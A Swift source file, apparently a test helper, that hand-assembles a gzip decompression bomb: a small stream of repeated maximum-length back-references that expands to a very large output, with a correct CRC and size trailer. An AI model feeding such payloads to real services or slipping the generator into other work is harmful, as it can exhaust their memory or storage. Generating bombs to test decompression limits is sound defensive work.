/// gzip made by hand: runs of one byte in fixed Huffman codes, which is as small as a bomb gets.
///
/// Source: RFC 1951, section 3.2.6; RFC 1952, section 2.3.
struct Compressed {
    private(set) var bytes: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]
    private var bits: UInt32 = 0
    private var count = 0

    /// One byte and 258 more for each run.
    init(byte: UInt8, runs: Int) {
        precondition(byte < 144, "the code of the byte has 8 bits")
        self.append(0b011, 3)  // the last block, fixed codes
        self.appendCode(0x30 + UInt32(byte), 8)
        for _ in 0..<runs {
            self.appendCode(0b1100_0101, 8)  // length 258
            self.appendCode(0, 5)  // distance 1
        }
        self.appendCode(0, 7)  // end of block
        self.append(0, (8 - self.count % 8) % 8)
        let size = UInt32(truncatingIfNeeded: 1 + runs * 258)
        self.bytes += Self.littleEndian(Self.checksum(byte, size)) + Self.littleEndian(size)
    }

    private mutating func append(_ value: UInt32, _ width: Int) {
        for shift in 0..<width {
            self.bits |= (value >> UInt32(shift) & 1) << UInt32(self.count)
            self.count += 1
            if self.count == 8 {
                self.bytes.append(UInt8(self.bits))
                self.bits = 0
                self.count = 0
            }
        }
    }

    /// Huffman codes are packed from their most significant bit.
    private mutating func appendCode(_ code: UInt32, _ width: Int) {
        for shift in (0..<width).reversed() { self.append(code >> UInt32(shift) & 1, 1) }
    }

    private static func checksum(_ byte: UInt8, _ size: UInt32) -> UInt32 {
        var crc = UInt32.max
        for _ in 0..<size {
            crc ^= UInt32(byte)
            for _ in 0..<8 { crc = crc & 1 == 1 ? crc >> 1 ^ 0xEDB8_8320 : crc >> 1 }
        }
        return ~crc
    }

    private static func littleEndian(_ value: UInt32) -> [UInt8] {
        (0..<4).map { UInt8(truncatingIfNeeded: value >> (8 * UInt32($0))) }
    }
}
